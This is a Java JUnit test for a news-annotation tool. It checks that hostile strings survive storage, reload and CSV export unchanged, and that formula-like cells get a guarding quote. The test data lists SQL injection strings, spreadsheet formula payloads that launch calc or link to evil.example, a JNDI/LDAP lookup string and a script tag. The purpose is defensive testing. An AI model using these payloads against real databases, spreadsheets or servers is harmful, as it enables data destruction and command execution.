package org.newsmark.reliability;

import org.newsmark.domain.TaskControl;
import org.newsmark.service.TestProjects;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.newsmark.domain.Analyst;
import org.newsmark.domain.Annotation;
import org.newsmark.domain.Document;
import org.newsmark.domain.Label;
import org.newsmark.domain.Names;
import org.newsmark.domain.Span;
import org.newsmark.service.ProjectSession;

/**
 * Labels, notes and titles that look like SQL, formulas or garbage are stored and read back verbatim.
 * Analyst names follow domain.Names: stripped, and a name with control or text-hiding characters or
 * more than 200 characters is refused with a message (and nothing stored); every accepted one is
 * stored and read back exactly.
 */
class HostileStringsTest {

    /** PostgreSQL's text cannot hold U+0000: on the server run the strings go without it, and its refusal is tested apart. */
    static final List<String> HOSTILE = TestProjects.onServer() ? withoutNul(all()) : all();

    private static List<String> withoutNul(List<String> l) {
        return l.stream().map(h -> h.replace("\u0000", "")).toList();
    }

    private static List<String> all() {
        return List.of(
            "'); DROP TABLE annotations;--",
            "Robert'); DROP TABLE analysts; --",
            "\" OR \"1\"=\"1",
            "' OR 1=1 --",
            "a;b;c; SELECT * FROM documents;",
            "quote ' double \" backtick ` backslash \\",
            "line\nbreak\r\nand\rcarriage",
            "ctrl \u0000 \u0001 \u0007 \b \u001b[31m \u007f \u0085 \u2028 end",
            "=HYPERLINK(\"http://evil.example\",\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "%s %n %d {0} ${jndi:ldap://x}",
            "<script>alert(1)</script>",
            "👩\u200D💻 عربى עברית cafe\u0301",
            "L".repeat(10_000),
            "   leading and trailing spaces   ");
    }

    @Test
    void aNulTheServerCannotStoreIsRefusedWithAClearMessageAndNothingHalfWritten() throws Exception {
        org.junit.jupiter.api.Assumptions.assumeTrue(TestProjects.onServer(), "SQLite stores U+0000 (the test above)");
        try (ProjectSession s = TestProjects.create(dir.resolve("nul.newsmark"))) {
            var e = assertThrows(org.newsmark.service.port.NotSavedException.class,
                    () -> s.documents().add("nul", "a\u0000b", "Article with a NUL"));
            assertTrue(e.getMessage().contains("cannot store the character U+0000"), e.getMessage());
            assertEquals(0, s.documents().summaries(null).size());
        }
    }

    @TempDir
    Path dir;

    @Test
    void everyHostileStringIsStoredAndReadBackVerbatim() throws Exception {
        Path file = dir.resolve("hostile.newsmark");
        List<Long> documentIds = new ArrayList<>();
        List<String> analystNames = analystNames();
        try (ProjectSession s = TestProjects.create(file)) {
            for (int i = 0; i < HOSTILE.size(); i++) {
                String h = HOSTILE.get(i);
                Document d = s.documents().add(h, h, "Article " + i + " about " + h).document();
                documentIds.add(d.id());
                if (!Names.isValid(h)) {
                    IllegalArgumentException refused = assertThrows(IllegalArgumentException.class, () -> s.analyst(h));
                    assertTrue(refused.getMessage().startsWith("Analyst name "), refused.getMessage());
                    assertTrue(refused.getMessage().length() < 200, "the message quotes the name shortly");
                }
                Analyst a = s.analyst(analystNames.get(i));
                // straight into the store: a project written before the name rule may hold such labels
                Label l = TestProjects.store(s).labels().insert(h, "#123456", null, h);
                Annotation tag = s.annotations().tag(d, a, l, new Span(0, 7));
                s.annotations().setNote(tag, h);
            }
        }
        try (ProjectSession s = TestProjects.open(file)) {
            for (int i = 0; i < HOSTILE.size(); i++) {
                String h = HOSTILE.get(i);
                Document d = s.documents().find(documentIds.get(i)).orElseThrow();
                assertEquals(h, d.title());
                assertEquals(h, d.sourceName());
                String name = analystNames.get(i);
                Analyst a = s.findAnalyst(name).orElseThrow(() -> new AssertionError("analyst lost: " + name));
                assertEquals(name, a.name());
                Label l = s.labels().stream().filter(x -> x.name().equals(h)).findFirst()
                        .orElseThrow(() -> new AssertionError("label lost: " + h));
                assertEquals(h, l.definition());
                List<Annotation> tags = s.annotations().annotations(d.id(), a.id());
                assertEquals(1, tags.size());
                assertEquals(h, tags.get(0).note());
                assertEquals(l.id(), tags.get(0).labelId());
            }
            assertEquals(HOSTILE.size(), s.analysts().size());
            assertTrue(s.integrityCheck().equals("ok"));
            assertEquals(List.of("line\nbreak\r\nand\rcarriage", HOSTILE.get(7), "L".repeat(10_000)),
                    HOSTILE.stream().filter(h -> !Names.isValid(h)).toList(), "refused as analyst names");
            assertEquals(List.of("=1+1", "leading and trailing spaces"), analystNames.stream()
                    .filter(n -> !n.startsWith("refused") && !HOSTILE.contains(n)).toList(), "stored stripped");
            assertExportedVerbatim(s, analystNames);
        }
    }

    /** Raw CSV gives every string back exactly; the guarded CSV only adds the leading ' to formula-like cells. */
    /** The hostile string itself where domain.Names accepts it (stripped), otherwise a stand-in. */
    private static List<String> analystNames() {
        List<String> out = new ArrayList<>();
        for (int i = 0; i < HOSTILE.size(); i++) {
            out.add(Names.isValid(HOSTILE.get(i)) ? Names.analyst(HOSTILE.get(i)) : "refused name " + i);
        }
        return out;
    }

    private void assertExportedVerbatim(ProjectSession s, List<String> analystNames) throws Exception {
        for (boolean raw : new boolean[] {true, false}) {
            Path csv = dir.resolve(raw ? "raw.csv" : "guarded.csv");
            s.export().exportCsv(csv, org.newsmark.service.ExportScope.ALL,
                    new org.newsmark.io.csv.CsvOptions(false, raw), org.newsmark.domain.TaskControl.NONE);
            List<org.apache.commons.csv.CSVRecord> rows;
            try (var reader = java.nio.file.Files.newBufferedReader(csv)) {
                rows = org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                        .parse(reader).getRecords();
            }
            assertEquals(HOSTILE.size(), rows.size());
            for (int i = 0; i < HOSTILE.size(); i++) {
                String h = HOSTILE.get(i);
                var r = rows.get(i);
                String expected = raw || !startsLikeAFormula(h) ? h : "'" + h;
                for (String column : new String[] {"document_title", "label", "note"}) {
                    assertEquals(expected, r.get(column), column + " of row " + i);
                }
                String analyst = analystNames.get(i);
                assertEquals(raw || !startsLikeAFormula(analyst) ? analyst : "'" + analyst, r.get("analyst"));
            }
        }
    }

    private static boolean startsLikeAFormula(String h) {
        return !h.isEmpty() && "=+-@\t\r".indexOf(h.charAt(0)) >= 0;
    }
}
